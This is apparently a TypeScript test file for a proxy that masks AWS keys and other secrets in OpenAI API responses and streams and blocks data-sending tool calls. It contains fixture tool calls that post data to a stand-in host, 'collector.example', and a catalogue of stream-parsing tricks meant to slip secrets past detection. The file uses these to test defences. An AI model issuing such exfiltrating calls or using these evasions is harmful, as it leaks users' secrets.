// Ways in which the OpenAI API tells a text that are easily forgotten: other fields, other forms of events, other endpoints, a text told twice.
import type { ChatCompletionChunk } from 'openai/resources/chat/completions';
import { describe, expect, test } from 'vitest';
import { openai } from './clients.ts';
import { installation } from './installation.ts';
import { chunk, completionOf, done, json, pieces, sse } from './openai-says.ts';
import { all, rejected } from './outcomes.ts';
import { awsKey, leaks } from './samples.ts';

const penstock = installation();
const question = { model: 'gpt-4o', messages: [{ role: 'user' as const, content: 'hello' }] };
const text = `The key is ${awsKey}, so.`;
const masked = 'The key is [REDACTED:aws-access-key], so.';

test.for(['content', 'reasoning', 'reasoning_content', 'refusal'])(
  'a text in %s is masked, in documents and in streams',
  async field => {
    const document = penstock.script(json(completionOf({ message: { role: 'assistant', content: null, [field]: text } })));
    const { choices } = await openai(penstock, document).chat.completions.create(question);
    expect(choices[0]?.message).toMatchObject({ [field]: masked });
    const events = [...pieces(text, 3).map(part => chunk({ [field]: part })), chunk({}, { finish: 'stop' }), done];
    const stream = await openai(penstock, penstock.script(sse(events))).chat.completions.create({ ...question, stream: true });
    const got = await all(stream);
    expect(got.map(({ choices: [choice] }) => fieldOf(choice?.delta, field)).join('')).toBe(masked);
  },
);

test('two texts of one choice side by side do not hide each other', async () => {
  const [parts, others] = [pieces(text, 3), pieces('An unrelated thought that goes on and on.', 3)];
  const events = others.map((reasoning, at) => chunk({ reasoning, ...(parts[at] === undefined ? {} : { content: parts[at] }) }));
  const stream = await openai(
    penstock,
    penstock.script(sse([...events, chunk({}, { finish: 'stop' }), done])),
  ).chat.completions.create({ ...question, stream: true });
  const got = await all(stream);
  expect(got.map(({ choices: [choice] }) => choice?.delta.content ?? '').join('')).toBe(masked);
});

test('the older way of calling functions is judged like tool calls', async () => {
  const args = JSON.stringify({ url: 'https://collector.example', body: 'x '.repeat(3_000) });
  const document = penstock.script(
    json(completionOf({ message: { role: 'assistant', content: null, function_call: { name: 'http_post', arguments: args } } })),
  );
  expect(await rejected(openai(penstock, document).chat.completions.create(question))).toMatchObject({
    code: 'penstock_exfiltration',
  });
  const events = [
    chunk({ function_call: { name: 'http_post', arguments: '' } }),
    ...pieces(args, 500).map(part => chunk({ function_call: { arguments: part } })),
  ];
  const script = penstock.script(sse([chunk({ content: 'one ' }), ...events, chunk({}, { finish: 'function_call' }), done]));
  const stream = await openai(penstock, script).chat.completions.create({ ...question, stream: true });
  const got: object[] = [];
  expect(await rejected(all(stream, got))).toMatchObject({ code: 'penstock_exfiltration' });
  expect(JSON.stringify(got)).not.toContain('collector');
});

describe('a secret is found in', () => {
  const escaped = [...awsKey].map(char => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
  const data = (content: string) =>
    `{"id":"1","object":"chat.completion.chunk","choices":[{"index":0,"delta":{"content":"${content}"}}]}`;
  const event = (content: string) => `data: ${data(content)}\n\n`;

  test.for([
    { what: 'escapes of Unicode', events: pieces(escaped, 18).map(event) },
    { what: 'events with carriage returns', events: pieces(awsKey, 3).map(part => event(part).replaceAll('\n', '\r')) },
    { what: 'events with both', events: pieces(awsKey, 3).map(part => event(part).replaceAll('\n', '\r\n')) },
    { what: 'events without a space', events: pieces(awsKey, 3).map(part => event(part).replace('data: ', 'data:')) },
    {
      what: 'data over several lines',
      events: pieces(awsKey, 3).map(part => event(part).replace('"choices"', '\ndata: "choices"')),
    },
    { what: 'data with blanks before it', events: pieces(awsKey, 3).map(part => event(part).replace('data: ', 'data: \t ')) },
    {
      what: 'an index behind the text',
      events: pieces(awsKey, 3).map(part => event(part).replace('"index":0,', '').replace('}}]', '},"index":0}]')),
    },
    {
      what: 'an index in several spellings',
      events: pieces(awsKey, 3).map((part, at) =>
        event(part).replace('"index":0', `"index":${['0', '0.0', '0e1', '-0'][at % 4]}`),
      ),
    },
    {
      what: 'events of another name',
      events: pieces(awsKey, 3).map((part, at) => `event: ${at % 2 === 0 ? 'chunk' : 'message'}\n${event(part)}`),
    },
    {
      what: 'events in which the text stands beside others',
      events: pieces(awsKey, 3).map(part => event(part).replace('"delta":{', '"delta":{"role":"assistant","name":"x",')),
    },
    { what: 'events with comments between', events: pieces(awsKey, 3).map(part => `: still here\n\n${event(part)}`) },
    { what: 'events with empty deltas between', events: pieces(awsKey, 3).flatMap(part => [event(''), event(part)]) },
  ])('$what', async ({ events }) => {
    const stream = await openai(
      penstock,
      penstock.script(sse([event('see '), ...events, event(' now'), done])),
    ).chat.completions.create({ ...question, stream: true });
    const got = await all(stream);
    const said = got.flatMap(({ choices }) => choices).map(({ delta }) => delta.content ?? '');
    expect(said.join('')).toBe('see [REDACTED:aws-access-key] now');
  });
});

test('choices of one index in one event, of which some clients take the first and some all, are refused', async () => {
  const choices = pieces(awsKey, 3).map(part => `{"index":0,"delta":{"content":"${part}"}}`);
  const script = penstock.script(sse([chunk({ content: 'see ' }), `data: {"choices":[${choices}]}\n\n`, done]));
  const got: ChatCompletionChunk[] = [];
  const stream = await openai(penstock, script).chat.completions.create({ ...question, stream: true });
  await expect(all(stream, got)).rejects.toMatchObject({ code: 'penstock_text_index' });
  expect(leaks(JSON.stringify(got))).toEqual([]);
});

test('lines with a byte order mark, which the grammar skips and the client reads, are no way past', async () => {
  const events = pieces(awsKey, 3).map(part => `\ufeff${chunk({ content: part })}`);
  const script = penstock.script(sse([chunk({ content: 'see ' }), ...events, done]));
  const got: ChatCompletionChunk[] = [];
  const stream = await openai(penstock, script).chat.completions.create({ ...question, stream: true });
  await all(stream, got).catch(() => {}); // a block would do as well as a mask
  expect(
    leaks(
      got
        .flatMap(({ choices }) => choices)
        .map(({ delta }) => delta.content ?? '')
        .join(''),
    ),
  ).toEqual([]);
});

test('embeddings arrive bit for bit', async () => {
  const numbers = Float32Array.from({ length: 1_536 }, (_, at) => Math.sin(at * 12.9898) * 0.05);
  const embedding = Buffer.from(numbers.buffer).toString('base64');
  const body = {
    object: 'list',
    data: [{ object: 'embedding', index: 0, embedding }],
    model: 'text-embedding-3-small',
    usage: { prompt_tokens: 1, total_tokens: 1 },
  };
  const got = await openai(penstock, penstock.script(json(body))).embeddings.create({
    model: 'text-embedding-3-small',
    input: 'hello',
  });
  expect(got.data[0]?.embedding).toEqual([...numbers]);
});

describe('the responses endpoint', () => {
  const item = (content: object[]) => ({ id: 'msg_1', type: 'message', role: 'assistant', status: 'completed', content });
  const part = (said: string) => ({ type: 'output_text', text: said, annotations: [] });
  const response = (output: object[], status: string) => ({
    id: 'resp_1',
    object: 'response',
    created_at: 1,
    status,
    model: 'gpt-4o',
    output,
  });
  let sequence = 0;
  const event = (type: string, rest: object) =>
    `event: ${type}\ndata: ${JSON.stringify({ type, sequence_number: sequence++, ...rest })}\n\n`;
  const at = { item_id: 'msg_1', output_index: 0, content_index: 0 };

  test('is masked as a document', async () => {
    const script = penstock.script(json(response([item([part(text)])], 'completed')));
    expect((await openai(penstock, script).responses.create({ model: 'gpt-4o', input: 'hello' })).output_text).toBe(masked);
  });

  test('is masked as a stream, in its deltas and wherever it tells all of it again', async () => {
    const events = [
      event('response.created', { response: response([], 'in_progress') }),
      event('response.output_item.added', { output_index: 0, item: item([]) }),
      event('response.content_part.added', { ...at, part: part('') }),
      ...pieces(text, 3).map(delta => event('response.output_text.delta', { ...at, delta, logprobs: [] })),
      event('response.output_text.done', { ...at, text, logprobs: [] }),
      event('response.content_part.done', { ...at, part: part(text) }),
      event('response.output_item.done', { output_index: 0, item: item([part(text)]) }),
      event('response.completed', { response: response([item([part(text)])], 'completed') }),
    ];
    const stream = await openai(penstock, penstock.script(sse(events))).responses.create({
      model: 'gpt-4o',
      input: 'hello',
      stream: true,
    });
    const got = await all(stream);
    expect(leaks(JSON.stringify(got))).toEqual([]);
    expect(got.map(one => (one.type === 'response.output_text.delta' ? one.delta : '')).join('')).toBe(masked);
    expect(got.map(one => (one.type === 'response.output_text.done' ? one.text : '')).join('')).toBe(masked);
    expect(got.at(-1)).toMatchObject({ type: 'response.completed', response: { output: [{ content: [{ text: masked }] }] } });
  });

  const args = JSON.stringify({ url: 'https://collector.example', body: 'x '.repeat(3_000) });
  const call = { type: 'function_call', id: 'fc_1', call_id: 'call_1', name: 'http_post', arguments: args, status: 'completed' };

  test('has its tool calls judged in documents', async () => {
    const script = penstock.script(json(response([call], 'completed')));
    const thrown = await rejected(openai(penstock, script).responses.create({ model: 'gpt-4o', input: 'hello' }));
    expect(thrown).toMatchObject({ code: 'penstock_exfiltration' });
  });

  test('has its tool calls judged in streams', async () => {
    const where = { item_id: 'fc_1', output_index: 0 };
    const events = [
      event('response.created', { response: response([], 'in_progress') }),
      event('response.output_item.added', { output_index: 0, item: { ...call, arguments: '', status: 'in_progress' } }),
      ...pieces(args, 500).map(delta => event('response.function_call_arguments.delta', { ...where, delta })),
      event('response.function_call_arguments.done', { ...where, name: 'http_post', arguments: args }),
      event('response.output_item.done', { output_index: 0, item: call }),
      event('response.completed', { response: response([call], 'completed') }),
    ];
    const got: object[] = [];
    const client = openai(penstock, penstock.script(sse(events)));
    const thrown = await rejected(
      client.responses.create({ model: 'gpt-4o', input: 'hello', stream: true }).then(stream => all(stream, got)),
    );
    expect(thrown).toMatchObject({ code: 'penstock_exfiltration' });
    expect(JSON.stringify(got)).not.toContain('collector');
  });
});

test('a character in two halves, and halves that stay alone, arrive as they came', async () => {
  const events = ['\\ud83d', '\\ude00', ' and \\ud83d alone'].map(
    part => `data: {"choices":[{"index":0,"delta":{"content":"${part}"}}]}\n\n`,
  );
  const response = await openai(penstock, penstock.script(sse([...events, done])))
    .chat.completions.create({ ...question, stream: true })
    .asResponse();
  expect(await response.text()).toBe([...events, done].join(''));
});

test('a text in parts, as some providers stream it, is masked', async () => {
  const events = [
    ...pieces(text, 3).map(part => chunk({ content: [{ type: 'text', text: part }] })),
    chunk({}, { finish: 'stop' }),
    done,
  ];
  const response = await openai(penstock, penstock.script(sse(events)))
    .chat.completions.create({ ...question, stream: true })
    .asResponse();
  const said = [...(await response.text()).matchAll(/"text":"([^"]*)"/g)].map(([, part]) => part).join('');
  expect(said).toBe(masked);
});

function fieldOf(delta: object | undefined, field: string): string {
  return (delta as Record<string, string> | undefined)?.[field] ?? '';
}
